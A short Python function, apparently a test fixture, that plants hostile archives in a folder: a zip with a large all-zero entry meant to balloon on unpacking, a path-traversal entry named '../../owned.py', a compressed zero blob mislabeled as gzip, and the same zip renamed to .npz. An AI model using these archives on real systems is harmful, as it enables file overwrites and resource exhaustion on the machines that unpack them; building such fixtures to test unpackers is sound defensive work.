"""Goal: archives that become terabytes for whoever unpacks them."""


def plant(folder, secret):
    import zipfile
    import zlib

    with zipfile.ZipFile(folder / "mini.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mini.py", bytes(1 << 26))
        archive.writestr("../../owned.py", b"x = 1")
    (folder / "mini.py.gz").write_bytes(zlib.compress(bytes(1 << 26)))
    (folder / "mini.npz").write_bytes((folder / "mini.zip").read_bytes())
